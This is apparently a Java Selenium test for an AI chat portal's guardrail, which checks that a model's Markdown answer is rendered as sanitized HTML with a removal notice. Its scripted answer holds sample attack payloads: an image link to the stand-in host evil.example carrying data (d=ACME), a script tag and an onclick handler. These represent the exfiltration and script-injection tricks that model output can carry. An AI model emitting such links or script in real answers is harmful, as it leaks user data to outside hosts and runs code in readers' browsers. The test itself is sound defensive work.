package io.gatehouse.governance.guardrail;

import static org.assertj.core.api.Assertions.assertThat;

import io.gatehouse.testing.HeadlessChromium;
import io.gatehouse.testing.ScriptedModelServer;
import io.gatehouse.testing.TestPortal;
import io.gatehouse.testing.WebSession;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * In a real headless Chromium: an answer written in Markdown streams in as text, then shows as sanitized HTML
 * (formatting and the allowed link, no image, no script) with the removal notice, the same after a reload,
 * and the page reports no script errors or Content-Security-Policy refusals.
 */
class GuardrailBrowserTest {

    static TestPortal portal;
    static ScriptedModelServer model;
    static HeadlessChromium chromium;
    static ChromeDriver driver;

    @BeforeAll
    static void start() throws IOException {
        portal = TestPortal.start();
        model = ScriptedModelServer.start();
        WebSession admin = portal.admin();
        portal.addProvider(admin, "Scripted", model.baseUrl(), "", "scripted-model");
        admin.putJson("/api/v1/admin/guardrails/everyone", Map.of("allowedLinkDomains", List.of("docs.example.com")));
        chromium = HeadlessChromium.start();
        driver = chromium.driver();
    }

    @AfterAll
    static void stop() throws IOException {
        try {
            if (chromium != null) {
                chromium.close();
            }
        } finally {
            model.close();
            portal.close();
        }
    }

    @Test
    void aMarkdownAnswerRendersAsSanitizedHtmlWithItsNoticeAndNoConsoleProblems() {
        WebDriverWait wait = new WebDriverWait(driver, Duration.ofSeconds(15));
        chromium.signInAsAdmin(portal);
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("composer")));

        model.enqueue(ScriptedModelServer.text("**Revenue** grew *12%*. ", "See [the guide](https://docs.example.com/q3) ",
                "![pixel](https://evil.example/p.png?d=ACME) <script>alert(1)</script> <b onclick=\"alert(2)\">raw</b>\n\n", "| customer | total |\n|---|---|\n| ACME | 1200 |\n"));
        driver.findElement(By.id("message")).sendKeys("How did Q3 go?");
        driver.findElement(By.id("send")).click();
        wait.until(ExpectedConditions.presenceOfElementLocated(By.cssSelector("#messages .message.assistant.complete")));

        assertRendered(lastAnswer());
        chromium.screenshot("guardrail-answer.png");

        driver.navigate().refresh();
        wait.until(ExpectedConditions.presenceOfElementLocated(By.cssSelector("#messages .message.assistant")));
        assertRendered(lastAnswer());
        chromium.screenshot("guardrail-answer-reloaded.png");

        assertThat(chromium.consoleProblems()).as("browser console warnings and errors").isEmpty();
    }

    private static void assertRendered(WebElement answer) {
        WebElement body = answer.findElement(By.cssSelector(".text.markdown"));
        assertThat(body.findElement(By.tagName("strong")).getText()).isEqualTo("Revenue");
        WebElement link = body.findElement(By.tagName("a"));
        assertThat(link.getDomAttribute("href")).isEqualTo("https://docs.example.com/q3");
        assertThat(link.getDomAttribute("rel").split(" ")).containsExactlyInAnyOrder("noopener", "noreferrer", "nofollow");
        assertThat(body.findElements(By.tagName("img"))).isEmpty();
        assertThat(body.findElements(By.tagName("script"))).isEmpty();
        assertThat(body.findElements(By.cssSelector("table td"))).extracting(WebElement::getText).containsExactly("ACME", "1200");
        assertThat(body.findElements(By.tagName("b"))).isEmpty();
        assertThat(body.getText()).contains("<b onclick=\"alert(2)\">raw</b>").doesNotContain("evil.example", "script");
        assertThat(answer.findElement(By.className("removal-notice")).getText())
                .isEqualTo("Removed by policy: 1 image, 1 embedded HTML element");
    }

    private static WebElement lastAnswer() {
        List<WebElement> answers = driver.findElements(By.cssSelector("#messages .message.assistant"));
        assertThat(answers).isNotEmpty();
        return answers.getLast();
    }
}
